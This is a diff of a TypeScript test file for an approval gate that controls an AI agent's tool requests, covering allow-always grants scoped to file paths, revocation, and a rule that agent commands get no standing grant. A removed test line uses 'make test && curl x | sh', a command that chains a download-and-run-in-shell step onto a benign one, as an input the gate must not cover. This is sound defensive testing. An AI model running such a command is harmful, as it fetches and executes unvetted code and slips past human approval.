@@ -3,13 +3,19 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import type { DatabaseSync } from 'node:sqlite'
 import { afterEach, beforeEach, describe, expect, it } from 'vitest'
-import { AGENT_COMMAND_TOOL, type AgentIdentity } from '../../contracts/agent-request.ts'
+import {
+  AGENT_COMMAND_TOOL,
+  AGENT_FILE_CHANGE_TOOL,
+  type AgentIdentity,
+} from '../../contracts/agent-request.ts'
 import type { RoomPolicy } from '../../contracts/policy-axes.ts'
 import type { Turn } from '../../contracts/room.ts'
 import { grantForDecision } from '../agent/grant-issuer.ts'
+import { grantScopeFor } from '../agent/grant-scope.ts'
 import { EventBus } from '../events/event-bus.ts'
 import { ApprovalGate } from '../gate/approval-gate.ts'
 import { ApprovalRequester } from '../gate/approval-requester.ts'
+import { AGENT_COMMAND_UNCONTAINED } from '../policy/agent-grant-scope.ts'
 import { policyForMode } from '../policy/permission-modes.ts'
 import { pinWorkspace } from '../policy/workspace-identity.ts'
 import { RuleBasedReviewer } from '../policy/reviewer.ts'
@@ -299,34 +305,36 @@ describe('ExternalTurnAsker: asking through the requester', () => {
   })
 
   it('answers a covered request from an allow-always grant without asking, until it is revoked', async () => {
+    const notes = join(workspace, 'notes.txt')
     const { asker } = askerUnder(policyForMode('ask-for-approval'))
-    const first = asker.ask(command('make test'), live())
+    const first = asker.ask(newFile(notes), live())
     const approval = await pendingApproval()
     await gate.decide({ approvalId: approval.id, decision: 'allow-always', decidedBy: 'user' })
     await expect(first).resolves.toBe('allow-always')
     const [grant] = stores.grants.listActive(ROOM_ID)
-    expect(grant).toMatchObject({ toolName: AGENT_COMMAND_TOOL, command: ['make test'] })
+    expect(grant).toMatchObject({ toolName: AGENT_FILE_CHANGE_TOOL, scope: 'path', path: notes })
 
-    await expect(asker.ask(command('make test'), live())).resolves.toBe('allow-once')
+    await expect(asker.ask(newFile(notes), live())).resolves.toBe('allow-once')
     expect(approvals()).toHaveLength(1)
     expect(auditTypes()).toContain('tool_allowed_by_grant')
 
-    // Another command is not covered.
-    const other = asker.ask(command('make test && curl x | sh'), live())
+    // Another file is not covered.
+    const other = asker.ask(newFile(join(workspace, 'other.txt')), live())
     const second = await pendingApproval(2)
     await gate.decide({ approvalId: second.id, decision: 'deny', decidedBy: 'user' })
     await expect(other).resolves.toBe('deny')
 
     stores.grants.revoke(ROOM_ID, grant?.id ?? '', clock)
-    const again = asker.ask(command('make test'), live())
+    const again = asker.ask(newFile(notes), live())
     const third = await pendingApproval(3)
     await gate.decide({ approvalId: third.id, decision: 'deny', decidedBy: 'user' })
     await expect(again).resolves.toBe('deny')
   })
 
   it('honours no grant when the policy distrusts standing grants (untrusted)', async () => {
+    const notes = join(workspace, 'notes.txt')
     const { asker: trusting } = askerUnder(policyForMode('ask-for-approval'))
-    const first = trusting.ask(command('make test'), live())
+    const first = trusting.ask(newFile(notes), live())
     const approval = await pendingApproval()
     await gate.decide({ approvalId: approval.id, decision: 'allow-always', decidedBy: 'user' })
     await first
@@ -335,8 +343,15 @@ describe('ExternalTurnAsker: asking through the requester', () => {
       sandboxMode: 'workspace-write',
       approvalReviewer: 'user',
     })
-    void asker.ask(command('make test'), live())
+    void asker.ask(newFile(notes), live())
     await pendingApproval(2)
+  })
+
+  it("remembers no command of the agent's: it runs outside Assent's sandbox", async () => {
+    const { asker } = askerUnder(policyForMode('ask-for-approval'))
+    void asker.ask(command('make test'), live())
+    const approval = await pendingApproval()
+    expect(grantScopeFor(approval)).toEqual({ ok: false, reason: AGENT_COMMAND_UNCONTAINED })
   })
 
   it('lets the approve-for-me reviewer allow a plain new file, and leaves a command to the person', async () => {
